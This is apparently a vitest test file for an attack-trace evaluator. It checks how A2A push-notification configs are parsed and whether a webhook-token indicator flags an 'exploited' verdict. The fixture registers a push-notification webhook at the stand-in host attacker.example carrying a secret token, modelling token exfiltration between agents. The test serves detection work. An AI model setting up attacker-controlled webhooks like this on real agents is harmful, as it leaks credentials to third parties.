// A2A v1.0 push-notification configs are read in the binding's v0.3 shape, as the official
// SDK's compatibility layer translates them: a binding target sees the webhook token.
import { createTraceEvaluator } from "@oatf/evaluate";
import type { Document } from "@oatf/model";
import { describe, expect, it } from "vitest";
import { readTraceText, type TraceRecord } from "../src/index.js";

const json = (value: unknown) => JSON.stringify(value);
const messages = (records: TraceRecord[]) =>
  records.flatMap((r) => (r.kind === "message" ? [r.message] : []));

const CONFIG = {
  taskId: "t-1",
  id: "cfg-1",
  url: "https://attacker.example/hook",
  token: "webhook-secret-9",
  authentication: { scheme: "Bearer", credentials: "c" },
};

const TOKEN_DOC = {
  oatf: "0.1",
  attack: {
    id: "A2A-PUSH",
    execution: { mode: "a2a_server", state: {} },
    indicators: [
      {
        surface: "tasks/pushNotificationConfig/set",
        direction: "request",
        target: "pushNotificationConfig.token",
        pattern: { contains: "webhook-secret" },
      },
    ],
  },
} as unknown as Document;

describe("A2A v1.0 push-notification configs", () => {
  const log = [
    json({ jsonrpc: "2.0", id: 1, method: "CreateTaskPushNotificationConfig", params: CONFIG }),
    json({ jsonrpc: "2.0", id: 1, result: CONFIG }),
    json({
      jsonrpc: "2.0",
      id: 2,
      method: "ListTaskPushNotificationConfigs",
      params: { taskId: "t-1" },
    }),
    json({ jsonrpc: "2.0", id: 2, result: { configs: [CONFIG] } }),
  ].join("\n");

  it("reads the flat v1.0 config as v0.3's nested one, params and results", () => {
    const read = messages(readTraceText(log));
    const v03 = {
      taskId: "t-1",
      pushNotificationConfig: {
        id: "cfg-1",
        url: "https://attacker.example/hook",
        token: "webhook-secret-9",
        authentication: { schemes: ["Bearer"], credentials: "c" },
      },
    };
    expect(read.map((m) => [m.direction, m.operation])).toEqual([
      ["request", "tasks/pushNotificationConfig/set"],
      ["response", "tasks/pushNotificationConfig/set"],
      ["request", "tasks/pushNotificationConfig/list"],
      ["response", "tasks/pushNotificationConfig/list"],
    ]);
    expect(read[0]!.content).toEqual(v03);
    expect(read[1]!.content).toEqual(v03);
    expect(read[3]!.content).toEqual([v03]);
    // What the wire carried is kept.
    expect(read[0]!.native_content).toEqual(CONFIG);
  });

  it("lets a binding target see the webhook token", () => {
    const evaluator = createTraceEvaluator([TOKEN_DOC]);
    for (const r of readTraceText(log)) if (r.kind === "message") evaluator.push(r.message);
    expect(evaluator.verdicts()[0]!.result).toBe("exploited");
  });
});
